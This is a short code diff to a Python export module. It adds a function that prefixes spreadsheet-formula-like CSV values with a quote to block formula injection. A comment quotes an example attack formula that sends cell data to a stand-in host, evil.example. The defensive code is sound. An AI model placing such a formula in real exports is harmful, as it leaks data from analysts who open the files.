@@ -8,6 +8,18 @@ from typing import IO, Any
 import orjson
 
 SPLITS = ("train", "validation")
+# A spreadsheet runs a cell that starts with one of these as a formula, so a prompt holding
+# `=HYPERLINK("https://evil.example/?"&A1, "click")` could send the sheet's data away from the
+# analyst who opens an export. OWASP's rule: a leading single quote makes the cell text.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """`value` for a CSV cell: text that a spreadsheet would run as a formula gets a leading `'`;
+    numbers (a negative one too) and everything else are left as they are."""
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 class Writer:
